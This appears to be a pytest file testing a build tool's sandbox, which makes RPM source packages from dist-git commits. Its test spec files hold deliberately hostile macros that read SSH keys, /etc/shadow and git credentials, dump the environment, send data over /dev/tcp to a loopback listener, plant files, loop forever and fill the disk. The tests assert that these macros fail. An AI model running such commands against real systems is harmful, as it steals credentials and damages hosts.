"""A commit becomes a source package that names it; a hostile spec file learns nothing and leaves nothing."""

from __future__ import annotations

import hashlib
import os
import socket
import threading
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from distgate.builds.lookaside import Lookaside
from distgate.builds.source_package import Commit, SourcePackage, SourcePackager
from distgate.errors import DistgateError, InfrastructureError, PackageError
from distgate.process import run
from distgate.sandbox.sandbox import MIB
from lab.dist_git.lookaside import lookaside_address, relative_path, upload
from lab.dist_git.repository import create_repository, push
from lab.dist_git.server import DistGitServer

SHA = "35fdde9c0ffee0000000000000000000000000aa"
COMMIT = Commit("rpms", "tiny", SHA, count=816)
SPEC = """\
Name: tiny
Version: 1.2
Release: 1%{{?dist}}.2
Summary: tiny
License: MIT
{extra}
%description
tiny
"""


def spec(extra: str = "") -> str:
    return SPEC.format(extra=extra)


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("dist-git")


@pytest.fixture(scope="module")
def server(root: Path) -> Iterator[DistGitServer]:
    (root / "artifacts").mkdir()
    with DistGitServer(root, root / "artifacts") as running:
        yield running


@pytest.fixture
def packager(server: DistGitServer, tmp_path: Path) -> SourcePackager:
    (tmp_path / "scratch").mkdir()
    return SourcePackager(Lookaside(lookaside_address(server.url)), scratch=tmp_path / "scratch")


def checkout(room: Path, text: str, **files: str | bytes) -> Path:
    tree = room / "tiny"
    (tree / ".git").mkdir(parents=True)
    (tree / ".git/FETCH_HEAD").write_text("http://user:password@dist-git")
    for name, content in {"tiny.spec": text, **files}.items():
        (tree / name).write_bytes(content.encode("utf-8", "surrogateescape") if isinstance(content, str) else content)
    return tree


def held(package: SourcePackage) -> dict[str, bytes]:
    """The files in a source package."""
    into = package.path.parent / "unpacked"
    into.mkdir()
    run(["sh", "-c", f"rpm2cpio {package.path} | cpio --quiet -idm -D {into}"], timeout=60)
    return {path.name: path.read_bytes() for path in into.iterdir()}


def test_the_release_names_the_commit_and_the_original_does_not(packager: SourcePackager, tmp_path: Path) -> None:
    made = packager.make(checkout(tmp_path, spec()), COMMIT, ".fc26", tmp_path / "out")
    assert (made.name, made.nvr, made.original_nvr) == (
        "tiny",
        "tiny-1.2-1.816.35fdde9.fc26.2",
        "tiny-1.2-1.fc26.2",
    )
    assert made.path == tmp_path / "out/tiny-1.2-1.816.35fdde9.fc26.2.src.rpm"
    assert made.sha256 == hashlib.sha256(made.path.read_bytes()).hexdigest()
    assert sorted(path.name for path in made.path.parent.iterdir()) == ["rpmbuild.log", made.path.name]
    assert held(made)["tiny.spec"].decode() == spec().replace("1%{?dist}", "1.816.35fdde9%{?dist}")


def test_an_automatic_release_is_counted(packager: SourcePackager, tmp_path: Path) -> None:
    text = spec().replace("1%{?dist}.2", "%autorelease") + "%changelog\n%autochangelog\n"
    made = packager.make(checkout(tmp_path, text), replace(COMMIT, releases=7), ".fc44", tmp_path / "out")
    assert (made.nvr, made.original_nvr) == ("tiny-1.2-7.816.35fdde9.fc44", "tiny-1.2-7.fc44")


def test_the_spec_is_read_for_its_own_distribution(packager: SourcePackager, tmp_path: Path) -> None:
    text = spec("%if 0%{?fedora} == 31\nEpoch: 3\n%endif").replace("1%{?dist}.2", "1%{?fedora}%{?dist}")
    made = packager.make(checkout(tmp_path, text), COMMIT, ".fc31", tmp_path / "out")
    assert made.original_nvr == "tiny-1.2-131.fc31"


def test_sources_of_every_age_come_from_the_lookaside(packager: SourcePackager, root: Path, tmp_path: Path) -> None:
    new, middle, old = (os.urandom(3 * MIB) for _ in range(3))
    (tmp_path / "new.tar").write_bytes(new)
    lines = upload(root / "lookaside", "tiny", tmp_path / "new.tar")
    for name, content, place in [("md5.tar", middle, "md5/"), ("old.tar", old, "")]:
        digest = hashlib.md5(content, usedforsecurity=False).hexdigest()
        path = root / f"lookaside/rpms/tiny/{name}/{place}{digest}/{name}"
        path.parent.mkdir(parents=True)
        path.write_bytes(content)
        lines += f"{digest}  {name}\n" if name == "old.tar" else f"MD5 ({name}) = {digest}\n"
    text = spec("Source0: https://example.test/new.tar\nSource1: md5.tar\nSource2: old.tar\nSource3: own.conf")
    tree = checkout(tmp_path, text, sources=lines, **{"own.conf": b"own"})
    files = held(packager.make(tree, COMMIT, ".fc26", tmp_path / "out"))
    assert (files["new.tar"], files["md5.tar"], files["old.tar"], files["own.conf"]) == (new, middle, old, b"own")


# the sources file, the class of the error, a part of its text
BAD_SOURCES: list[tuple[str, type[DistgateError], str]] = [
    (f"SHA512 (x.tar) = {'0' * 128}\n", PackageError, "has no x.tar with the sha512 0000"),
    (f"{'0' * 32}  x.tar\n", PackageError, "has no x.tar with the md5 0000"),
    (f"SHA512 (../../x) = {'0' * 128}\n", PackageError, "a line of the file sources cannot be read"),
    (f"SHA512 (..) = {'0' * 128}\n", PackageError, "a line of the file sources cannot be read"),
    (f"SHA512 (.git) = {'0' * 128}\n", PackageError, "a line of the file sources cannot be read"),
    (f"SHA512 (x.tar) = {'0' * 64}\n", PackageError, "a line of the file sources cannot be read"),
    ("CRC32 (x.tar) = 00000000\n", PackageError, "a line of the file sources cannot be read"),
    ("<<<<<<< HEAD\n", PackageError, "a line of the file sources cannot be read"),
    (f"SHA512 (wrong.tar) = {'1' * 128}\n", InfrastructureError, "sent something else for wrong.tar"),
    (f"SHA512 (big.tar) = {'2' * 128}\n", PackageError, "are too large: big.tar"),
]


@pytest.mark.parametrize(("sources", "kind", "words"), BAD_SOURCES)
def test_sources_that_are_not_as_promised_are_refused(
    packager: SourcePackager, root: Path, tmp_path: Path, sources: str, kind: type[DistgateError], words: str
) -> None:
    for name, digest, size in [("wrong.tar", "1" * 128, 10), ("big.tar", "2" * 128, 100_000)]:
        path = root / "lookaside" / relative_path("rpms", "tiny", name, "sha512", digest)
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(bytes(size))
    small = replace(packager, lookaside=replace(packager.lookaside, limit=50_000))
    with pytest.raises(kind, match=words):
        small.make(checkout(tmp_path, spec(), sources=sources), COMMIT, ".fc26", tmp_path / "out")


def test_a_lookaside_that_is_away_is_not_the_packages_fault(packager: SourcePackager, tmp_path: Path) -> None:
    away = replace(packager, lookaside=Lookaside("http://127.0.0.1:9/{file}/{hash}"))
    with pytest.raises(InfrastructureError, match="cannot fetch http://127"):
        away.make(checkout(tmp_path, spec(), sources=f"{'0' * 32}  x.tar\n"), COMMIT, ".fc26", tmp_path / "out")


def test_a_source_is_not_written_through_a_link(packager: SourcePackager, root: Path, tmp_path: Path) -> None:
    victim = tmp_path / "victim"
    victim.write_text("mine")
    (tmp_path / "linked.tar").write_bytes(b"x")
    line = upload(root / "lookaside", "tiny", tmp_path / "linked.tar")
    tree = checkout(tmp_path, spec("Source: linked.tar"), sources=line)
    (tree / "linked.tar").symlink_to(victim)
    packager.make(tree, COMMIT, ".fc26", tmp_path / "out")
    assert victim.read_text() == "mine"


def test_a_package_is_made_straight_from_dist_git(
    packager: SourcePackager, server: DistGitServer, root: Path, tmp_path: Path
) -> None:
    repository = create_repository(root, "tiny")
    plain, automatic = spec(), spec().replace("1%{?dist}.2", "%autorelease")
    revs = [push(repository, "rawhide", {"tiny.spec": text}, "x") for text in (plain, automatic, automatic)]
    (tmp_path / "tiny.conf").write_text("x")
    sources = upload(root / "lookaside", "tiny", tmp_path / "tiny.conf")
    files = {"tiny.spec": spec("Source: tiny.conf"), "sources": sources}
    revs.append(push(repository, "rawhide", files, "x"))
    made = [
        packager.package(f"{server.url}/rpms/tiny.git", "rpms", "tiny", rev, ".fc44", tmp_path / rev) for rev in revs
    ]
    assert [one.nvr for one in made] == [
        f"tiny-1.2-1.1.{revs[0][:7]}.fc44.2",
        f"tiny-1.2-2.2.{revs[1][:7]}.fc44",
        f"tiny-1.2-3.3.{revs[2][:7]}.fc44",
        f"tiny-1.2-1.4.{revs[3][:7]}.fc44.2",
    ]
    assert sorted(path.name for path in made[3].path.parent.iterdir()) == ["rpmbuild.log", made[3].path.name]
    assert held(made[3])["tiny.conf"] == b"x"


# the spec file, a part of the error, a part of rpm's own words
UNREADABLE = [
    (
        "Name: tiny\nRelease: 1\n%description\n",
        "makes no source package of tiny.spec",
        "Version field must be present",
    ),
    (spec("Nonsense: 1"), "makes no source package of tiny.spec", "Unknown tag: Nonsense"),
    (spec("Source: nowhere.tar"), "makes no source package of tiny.spec", "nowhere.tar"),
    (spec("Source: passwords"), "makes no source package of tiny.spec", "passwords"),
    (spec("%define _srcrpmdir /elsewhere"), "tiny.spec", ""),
]


@pytest.mark.parametrize(("text", "message", "words"), UNREADABLE)
def test_a_spec_that_cannot_be_packed_is_the_packages_fault_in_rpms_words(
    packager: SourcePackager, tmp_path: Path, text: str, message: str, words: str
) -> None:
    tree = checkout(tmp_path, text)
    (tree / "passwords").symlink_to("/etc/shadow")
    with pytest.raises(PackageError, match=message) as failed:
        packager.make(tree, COMMIT, ".fc26", tmp_path / "out")
    assert words in failed.value.evidence


@pytest.mark.parametrize("files", [{}, {"a.spec": "x", "b.spec": "x"}, {"link.spec": "->"}], ids=len)
def test_one_spec_file_is_needed(packager: SourcePackager, tmp_path: Path, files: dict[str, str]) -> None:
    tree = tmp_path / "tree"
    tree.mkdir()
    for name, content in files.items():
        if content == "->":
            (tree / name).symlink_to("/etc/hostname")
        else:
            (tree / name).write_text(content)
    with pytest.raises(PackageError, match="has not one spec file but"):
        packager.make(tree, COMMIT, ".fc26", tmp_path / "out")


@pytest.fixture
def service() -> Iterator[int]:
    """A loopback service of this host that notes who calls."""
    with socket.create_server(("127.0.0.1", 0)) as listener:
        threading.Thread(target=lambda: listener.accept()[0].close(), daemon=True).start()
        yield listener.getsockname()[1]


def test_a_hostile_spec_learns_nothing_and_changes_nothing(
    packager: SourcePackager, tmp_path: Path, service: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PREFECT_API_KEY", "secret-of-the-environment")
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh/id_ed25519").write_text("secret-of-the-home")
    monkeypatch.setenv("HOME", str(home))
    planted = tmp_path / "planted"
    tree = checkout(
        tmp_path,
        spec(
            "%global all %(env >&2; cat ~/.ssh/* >&2; cat /etc/shadow >&2; cat .git/FETCH_HEAD >&2)\n"
            f"%global more %(cat {tree_git(tmp_path)} >&2; cat {home}/.ssh/id_ed25519 >&2; ls / /home /root >&2)\n"
            f"%global write %(touch {planted} {tmp_path}/tiny/planted /usr/planted; echo wrote $? >&2)\n"
            f"%global call %((echo x >/dev/tcp/127.0.0.1/{service}) && echo called >&2)\n"
            f'%{{lua: f = io.open("{planted}", "w") if f then f:write("x") f:close() end}}'
        ),
    )
    made = packager.make(tree, COMMIT, ".fc26", tmp_path / "out")
    said = (made.path.parent / "rpmbuild.log").read_text()
    for word in ("HOME=/tmp", "wrote 1"):
        assert word in said  # the macros did run
    for secret in ("secret", "password", "root:", "called"):
        assert secret not in said
    assert not planted.exists()
    assert not (tree / "planted").exists()
    assert made.original_nvr == "tiny-1.2-1.fc26.2"


def tree_git(room: Path) -> Path:
    return room / "tiny/.git/FETCH_HEAD"


LATE = r"did not get through tiny\.spec within 2 s"
# what a macro does, a part of the error
ENDLESS = [
    ("%(while :; do :; done)", LATE),
    ("%(sleep 1000 & sleep 1000)", LATE),
    ("%{lua: while true do end}", LATE),
    ("%(yes >&2)", LATE),
    ("%define a %{b}\n%define b %{a}\n%{a}", "makes no source package"),
]


@pytest.mark.parametrize(("macro", "message"), ENDLESS)
def test_a_spec_without_an_end_is_ended_and_is_the_packages_fault(
    packager: SourcePackager, tmp_path: Path, macro: str, message: str
) -> None:
    hasty = replace(packager, timeout=2.0)
    with pytest.raises(PackageError, match=message):
        hasty.make(checkout(tmp_path, spec(f"%global x {macro}")), COMMIT, ".fc26", tmp_path / "out")
    assert (tmp_path / "out/rpmbuild.log").stat().st_size < 20 * MIB
    assert not list((tmp_path / "scratch").iterdir())


def test_a_spec_that_fills_the_disk_fills_its_own(packager: SourcePackager, tmp_path: Path) -> None:
    filled = spec("%global x %(dd if=/dev/zero of=/tmp/fill bs=1M >&2)")
    made = packager.make(checkout(tmp_path, filled), COMMIT, ".fc26", tmp_path / "out")
    assert "No space left on device" in (made.path.parent / "rpmbuild.log").read_text()


# what a spec leaves in place of its source package, a part of the error
FORGED = [
    ("%(echo no RPM >%{_srcrpmdir}/tiny-1.2-9.src.rpm; kill $PPID)", "makes no source package"),
    ("%(echo no RPM >%{_srcrpmdir}/other-1.2-9.src.rpm)", "left 2 source packages"),
]


@pytest.mark.parametrize(("macro", "message"), FORGED)
def test_what_a_spec_puts_in_the_place_of_its_package_is_not_taken_for_it(
    packager: SourcePackager, tmp_path: Path, macro: str, message: str
) -> None:
    with pytest.raises(PackageError, match=message):
        packager.make(checkout(tmp_path, spec(f"%global x {macro}")), COMMIT, ".fc26", tmp_path / "out")


def test_a_release_that_hides_the_commit_is_refused(packager: SourcePackager, tmp_path: Path) -> None:
    hidden = spec().replace("Release: 1%{?dist}.2", "%if 0\nRelease: 1\n%endif\n%{expand:Rel%{nil}ease: 5}")
    with pytest.raises(PackageError, match=r"the commit is 0 times in the release of tiny-1\.2-5, not once"):
        packager.make(checkout(tmp_path, hidden), COMMIT, ".fc26", tmp_path / "out")
